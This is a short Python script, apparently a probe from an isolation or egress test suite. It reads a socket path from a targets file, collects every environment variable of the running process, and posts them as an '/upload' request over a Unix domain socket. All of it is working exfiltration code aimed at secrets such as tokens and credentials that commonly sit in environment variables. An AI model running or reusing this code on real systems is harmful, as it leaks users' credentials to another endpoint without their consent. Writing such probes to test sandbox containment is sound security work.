# unix-path-socket (Python): AF_UNIX connect to the socket's host path and
# the environment written into it.
import os, socket, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

data = "".join(f"{k}={v}\n" for k, v in os.environ.items()).encode()
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(T["T_UNIX_SOCK"])
        s.sendall(b"POST /upload HTTP/1.0\r\n\r\n" + data)
except OSError as e:
    print(e)
